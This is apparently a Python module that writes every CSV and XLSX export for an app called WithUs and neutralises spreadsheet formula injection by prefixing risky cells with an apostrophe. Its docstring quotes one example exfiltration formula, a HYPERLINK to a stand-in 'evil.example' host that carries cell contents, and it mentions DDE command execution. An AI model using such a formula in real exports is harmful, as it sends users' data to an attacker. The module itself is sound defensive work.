"""The one writer for every CSV and XLSX file WithUs makes, so no export can run a formula.

Survey exports and their data dictionaries (storage/exports.py), the consultation CSVs
(bot/services/consultation.py) and anything added later write their files through this
module; tests/test_export_writer.py fails if any other module calls csv.writer or builds
an openpyxl Workbook.

A cell that begins with = + - @, a tab, CR or LF (or the full-width or small forms of
= + - @ that East Asian spreadsheets also accept), perhaps after spaces, is read by Excel,
LibreOffice or Google Sheets as a formula, which can fetch URLs with the sheet's contents
(`=HYPERLINK("http://evil.example/?"&A2, "Read more")`) or run commands through DDE
(OWASP "CSV injection"). Such a text cell gets a leading apostrophe: spreadsheets show
the text and run nothing. Numbers are left alone, so -3 stays -3. In XLSX every text cell
is also stored as a string, never as a formula, whatever it starts with.
"""

from __future__ import annotations

import csv
import functools
import io
from collections.abc import Iterable, Iterator, Sequence
from datetime import datetime
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from openpyxl import Workbook

#: First characters that make a spreadsheet treat a cell as a formula: = + - @, tab, CR,
#: LF, and the full-width (U+FF1D, U+FF0B, U+FF0D, U+FF20) and small (U+FE66, U+FE62,
#: U+FE63, U+FE6B) forms of = + - @.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n",
                  "\uff1d", "\uff0b", "\uff0d", "\uff20",
                  "\ufe66", "\ufe62", "\ufe63", "\ufe6b")
#: Spaces a spreadsheet may skip before it looks for a formula.
_LEADING_SPACES = " \u00a0\u3000"
BOM = "\ufeff"


def neutralise(value: Any) -> Any:
    """A text cell made safe for spreadsheets: a leading apostrophe before a formula start.

    Numbers and everything else that is not text are returned unchanged.
    """
    if isinstance(value, str) and value.lstrip(_LEADING_SPACES).startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_cell(value: Any) -> Any:
    """One value as a CSV cell: empty for None, UTC timestamps without a zone, text made
    safe; numbers as they are."""
    if value is None:
        return ""
    if isinstance(value, datetime):
        return value.strftime("%Y-%m-%d %H:%M:%S")
    return neutralise(value)


def csv_chunks(header: Sequence[Any], rows: Iterable[Sequence[Any]], *, bom: bool = True,
               newline: str = "\r\n", flush_every: int = 500) -> Iterator[bytes]:
    """CSV in UTF-8, in pieces of `flush_every` rows, every cell made safe.

    With `bom` (the default) it starts with a byte-order mark, so Excel reads accents right.
    """
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator=newline)
    if bom:
        buffer.write(BOM)
    writer.writerow([csv_cell(h) for h in header])
    for n, row in enumerate(rows, start=1):
        writer.writerow([csv_cell(v) for v in row])
        if n % flush_every == 0:
            yield buffer.getvalue().encode("utf-8")
            buffer.seek(0)
            buffer.truncate()
    yield buffer.getvalue().encode("utf-8")


def csv_text(header: Sequence[Any], rows: Iterable[Sequence[Any]], *, newline: str = "\n"
             ) -> str:
    """A small CSV file as text (no byte-order mark), every cell made safe."""
    return b"".join(csv_chunks(header, rows, bom=False, newline=newline)).decode("utf-8")


@functools.cache
def _workbook_class() -> type[Workbook]:
    """SafeWorkbook, defined on first use: openpyxl loads only when a workbook is made."""
    from openpyxl import Workbook
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
    from openpyxl.worksheet._write_only import WriteOnlyWorksheet

    def clean(value: Any) -> Any:
        if isinstance(value, str):  # characters XML cannot hold go first
            return neutralise(ILLEGAL_CHARACTERS_RE.sub("", value))
        if isinstance(value, datetime):
            return value.replace(tzinfo=None)  # Excel has no time zones; headers say UTC
        return value

    class SafeSheet(WriteOnlyWorksheet):
        """A write-only worksheet whose every appended text cell is made safe and stored
        as a string. Freezing panes, column widths and styled cells work as usual."""

        def append(self, row: Iterable[Any]) -> None:
            cells = []
            for value in row:
                if isinstance(value, Cell):
                    value.value = clean(value.value)
                    if isinstance(value.value, str):
                        value.data_type = "s"
                    cells.append(value)
                else:
                    cells.append(clean(value))
            super().append(cells)

    class SafeWorkbook(Workbook):
        def __init__(self) -> None:
            super().__init__(write_only=True)

        def create_sheet(self, title: str | None = None, index: int | None = None) -> Any:
            sheet = SafeSheet(parent=self, title=title)
            self._add_sheet(sheet=sheet, index=index)
            return sheet

    return SafeWorkbook


def layout(sheet: Any, widths: Sequence[float], freeze: str | None = "A2") -> None:
    """Column widths (in characters) and frozen panes (the cell below and right of what
    stays in view) for a sheet of `workbook()`; call it before appending any row."""
    from openpyxl.utils import get_column_letter

    for n, width in enumerate(widths, start=1):
        sheet.column_dimensions[get_column_letter(n)].width = width
    if freeze:
        sheet.freeze_panes = freeze


def header_cells(sheet: Any, headers: Sequence[Any]) -> list[Any]:
    """A header row for a sheet of `workbook()`: bold, wrapped, aligned to the top, so
    long question texts fit the column widths. Made safe like every other cell."""
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Alignment, Font

    bold, wrap = Font(bold=True), Alignment(wrap_text=True, vertical="top")
    cells = []
    for value in headers:
        cell = WriteOnlyCell(sheet, value=value)
        cell.font, cell.alignment = bold, wrap
        cells.append(cell)
    return cells


def workbook() -> Workbook:
    """A write-only openpyxl workbook (rows stream to disk, so memory stays flat) whose
    sheets make every appended text cell safe: use it for every XLSX file."""
    return _workbook_class()()
